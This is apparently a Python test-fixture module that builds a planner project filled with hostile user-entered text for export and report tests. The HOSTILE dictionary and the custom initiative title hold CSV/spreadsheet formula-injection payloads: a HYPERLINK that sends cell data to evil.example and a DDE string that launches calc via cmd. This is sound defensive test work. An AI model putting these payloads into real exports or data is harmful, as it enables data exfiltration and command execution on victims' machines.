"""Projects for the export tests: a realistic one with hostile text everywhere a user can type.

No tests here; the export, report and chart tests import these builders.
"""

from __future__ import annotations

from planner.model.capmodel import CapabilityModel
from planner.model.project import Assessment, Engagement, Project
from planner.model.roadmap import add_custom_initiative, generate_roadmap, set_locked

CLIENT = "Zoë Ωmega Кирилл 東京"
HOSTILE = {
    "allocation": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "anomaly-management": "#N/A",
    "data-ingestion": "+1",
    "forecasting": "@SUM(A1:A9)",
    "budgeting": "-2+3",
    "reporting-analytics": "AT&T <b>not bold</b> <br>t</br> <img src='x.png'/> <font size=40>big</font> {x}",
    "unit-economics": "line one\x0bline two\x00 after nul\x1f end",
}
INTERNAL = "INTERNAL-ONLY remark about the CFO"


def hostile_project(model: CapabilityModel) -> Project:
    """Return a scored project with hostile notes, an N/A, an unscored lens and an edited roadmap."""
    lenses = model.lens_ids
    assessment = Assessment(lens_weights={lens: 1.0 for lens in lenses})
    pattern = [0, 1, 2, 3, 4, 2, 1]
    for index, cap in enumerate(model.iter_capabilities()):
        found = assessment.of(cap.id)
        found.lenses = {lens: pattern[(index + i) % len(pattern)] for i, lens in enumerate(lenses)}
        found.target = ("walk", "run", "crawl")[index % 3]
        found.importance = 1 + index % 5
        found.notes = HOSTILE.get(cap.id, f"Client-facing note on {cap.name}.")
        found.internal_notes = f"{INTERNAL} #{index}"
        found.evidence = [f"Evidence document {index}"]
    assessment.of("sustainability").applicable = False
    assessment.of("kpis-benchmarking").lenses["automation"] = None
    roadmap = generate_roadmap(model, assessment, capacity=3)
    roadmap = add_custom_initiative(
        roadmap,
        capability="allocation",
        title="=cmd|' /C calc'!A0 東京 タグ付け",
        phase="crawl",
        description="Custom <i>item</i> & more",
        owner="Finance & Ops",
    )
    roadmap = set_locked(roadmap, roadmap.initiatives[0].id, True)
    engagement = Engagement(
        client=CLIENT,
        title="Assessment <2026> & roadmap",
        consultant="Ana Müller",
        firm="Nordlicht & Partner",
        assessment_date="2026-11-20",
        scopes=["AWS", "Azure", "SaaS"],
        summary="Executive summary with <tags> & ampersands.\n\nSecond paragraph, Ελληνικά and 東京.",
    )
    return Project(model=model, engagement=engagement, assessment=assessment, roadmap=roadmap)
